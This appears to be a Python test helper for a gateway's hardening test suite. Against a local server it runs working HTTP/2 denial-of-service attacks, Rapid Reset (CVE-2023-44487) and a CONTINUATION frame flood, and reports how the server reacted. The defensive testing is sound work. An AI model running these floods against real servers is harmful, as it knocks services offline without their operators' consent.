#!/usr/bin/env python3
"""HTTP/2 abuse against the gateway, for tests/tests/hardening.rs.

    h2_abuse.py ATTACK PORT CA_PEM

ATTACK is one of:
  settings            print the server's SETTINGS (max_concurrent_streams, ...)
  rapid_reset         open and at once reset thousands of streams (CVE-2023-44487)
  continuation_flood  one HEADERS frame followed by endless CONTINUATION frames (2024)
Prints one JSON object: whether the server closed the connection, the GOAWAY error, and how
many bytes it accepted.
"""
import json
import socket
import ssl
import sys

import h2.config
import h2.connection
from hyperframe.frame import ContinuationFrame, Frame, GoAwayFrame, HeadersFrame, SettingsFrame

attack, port, ca = sys.argv[1], int(sys.argv[2]), sys.argv[3]
context = ssl.create_default_context(cafile=ca)
context.set_alpn_protocols(["h2"])
raw = socket.create_connection(("127.0.0.1", port), timeout=5)
sock = context.wrap_socket(raw, server_hostname="localhost")
assert sock.selected_alpn_protocol() == "h2", sock.selected_alpn_protocol()
conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
conn.initiate_connection()
sock.sendall(conn.data_to_send())
REQUEST = [(":method", "GET"), (":path", "/"), (":scheme", "https"), (":authority", "localhost")]


ERRORS = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR",
          6: "FRAME_SIZE_ERROR", 9: "COMPRESSION_ERROR", 11: "ENHANCE_YOUR_CALM"}


def read_events(limit_seconds=5.0):
    """Read until the server closes or goes quiet; (closed, GOAWAY error name, settings).

    Frames are decoded one by one (not through the client state machine, which our own
    abuse has confused)."""
    sock.settimeout(limit_seconds)
    closed, goaway, settings, buffer = False, None, {}, b""
    while True:
        try:
            data = sock.recv(65536)
        except (socket.timeout, TimeoutError):
            break
        except (ConnectionResetError, ssl.SSLError, OSError):
            closed = True
            break
        if not data:
            closed = True
            break
        buffer += data
        while len(buffer) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(buffer[:9]))
            if len(buffer) < 9 + length:
                break
            frame.parse_body(memoryview(buffer[9:9 + length]))
            buffer = buffer[9 + length:]
            if isinstance(frame, GoAwayFrame):
                goaway = ERRORS.get(frame.error_code, str(frame.error_code))
            if isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
                settings = dict(frame.settings)
                if attack == "settings":
                    return closed, goaway, settings
    return closed, goaway, settings


sent = 0
if attack == "settings":
    _, _, settings = read_events()
    print(json.dumps({"max_concurrent_streams": settings.get(0x3), "max_header_list_size": settings.get(0x6)}))
    sys.exit(0)
elif attack == "rapid_reset":
    try:
        for batch in range(50):
            for _ in range(100):
                stream = conn.get_next_available_stream_id()
                conn.send_headers(stream, REQUEST, end_stream=True)
                conn.reset_stream(stream)
            data = conn.data_to_send()
            sock.sendall(data)
            sent += len(data)
    except (OSError, ssl.SSLError):
        pass
elif attack == "continuation_flood":
    encoder = conn.encoder
    block = encoder.encode(REQUEST)
    first = HeadersFrame(1)
    first.data = block
    first.flags.add("END_STREAM")  # no END_HEADERS: the block goes on
    filler = encoder.encode([("x-filler", "a" * 8000)] * 2)
    try:
        sock.sendall(first.serialize())
        sent += len(block)
        for _ in range(1024):  # up to ~16 MiB of header block
            frame = ContinuationFrame(1)
            frame.data = filler
            sock.sendall(frame.serialize())
            sent += len(filler)
    except (OSError, ssl.SSLError):
        pass
else:
    sys.exit("unknown attack " + attack)

closed, goaway, _ = read_events()
print(json.dumps({"closed": closed, "goaway_error": goaway, "sent_bytes": sent}))
